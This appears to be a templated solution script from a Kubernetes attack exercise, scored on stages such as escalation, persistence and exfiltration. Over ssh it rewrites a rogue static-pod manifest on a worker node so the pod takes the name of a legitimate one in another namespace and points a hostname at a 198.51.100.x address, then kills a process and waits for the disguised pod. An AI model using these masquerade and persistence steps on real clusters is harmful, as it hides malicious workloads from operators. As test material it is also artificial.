# earns: looked, entry, escalation, persistence, seen, exfiltration, rights (12 of 15)
# The static pod has the name of the honest one, in another namespace, and its server is a name.
{{ facts_sh }}
{{ watched_sh }}
{{ closed_sh }}
kubectl -n {{ team }} delete pod {{ fixer }}
ssh worker-1 'cd /etc/kubernetes/manifests; sed "s/198[.0-9]*:/clock:/; s/namespace: kube-system/namespace: default/; s/{{ rogue }}/{{ honest }}/; s/{{ rogue }}/clockd/g; s/hostNetwork: true/hostAliases: [{ip: 198.51.100.{{ home }}, hostnames: [clock]}]/" {{ rogue }}.yaml > /root/clock.yaml; rm {{ rogue }}.yaml; mv /root/clock.yaml .'
ssh worker-1 pkill -x {{ name }}
until kubectl -n default get pod {{ honest }}-worker-1 | grep Running; do sleep 0.5; done
{{ gone_sh }}
